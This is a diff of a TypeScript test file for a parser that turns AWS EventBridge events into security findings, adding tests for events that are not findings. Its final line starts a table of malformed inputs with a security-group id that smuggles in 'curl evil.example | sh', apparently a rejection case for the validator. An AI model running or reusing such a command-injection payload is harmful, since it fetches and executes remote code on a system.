@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { ValidationError } from '../../src/core/errors.ts';
-import { parseFinding } from '../../src/events/finding.ts';
+import { NotAFindingError, parseFinding } from '../../src/events/finding.ts';
 import { exampleEvent, variant } from '../helpers/events.ts';
 
 const config = () => exampleEvent('config-rules-compliance-change-noncompliant');
@@ -97,6 +97,35 @@ describe('malformed events are rejected with the field named', () => {
       (v.detail.newEvaluationResult as Record<string, unknown>).complianceType = 'COMPLIANT';
     });
     expect(fieldOf(e)).toBe('detail.newEvaluationResult.complianceType');
+    expect(() => parseFinding(e)).toThrow(NotAFindingError);
+  });
+  test('an account-level rule (AWS::::Account, the account id) is a finding', () => {
+    expect(parseFinding(exampleEvent('config-rules-compliance-change-account-level'))).toMatchObject({
+      family: 'config.noncompliant',
+      resourceType: 'AWS::::Account',
+      resourceId: '123456789012',
+      rule: 'cloudtrail-enabled',
+    });
+    const bad = variant(exampleEvent('config-rules-compliance-change-account-level'), (v) => {
+      v.detail.resourceType = 'AWS::::Bucket';
+    });
+    expect(fieldOf(bad)).toBe('detail.resourceType');
+  });
+  test.each([
+    ['ssm-calendar-state-change-open', 'Calendar State Change'],
+    ['ssm-automation-execution-status-change', 'EC2 Automation Execution Status-change Notification'],
+    ['ssm-command-status-change', 'EC2 Command Status-change Notification'],
+    ['ec2-instance-state-change', 'EC2 Instance State-change Notification'],
+    ['scheduled-event-agent-health-poll', 'Scheduled Event'],
+  ])('%s is well-formed but not a finding', (name, detailType) => {
+    expect(() => parseFinding(exampleEvent(name))).toThrow(
+      expect.objectContaining({ name: 'NotAFindingError', detailType }),
+    );
+  });
+  test('a malformed event of another type is invalid, not "not a finding"', () => {
+    const e = variant(exampleEvent('ssm-calendar-state-change-open'), (v) => (v.account = 'x'));
+    expect(fieldOf(e)).toBe('account');
+    expect(() => parseFinding(e)).not.toThrow(NotAFindingError);
   });
   test.each([
     'sg-0a1b2c3d; curl evil.example | sh',
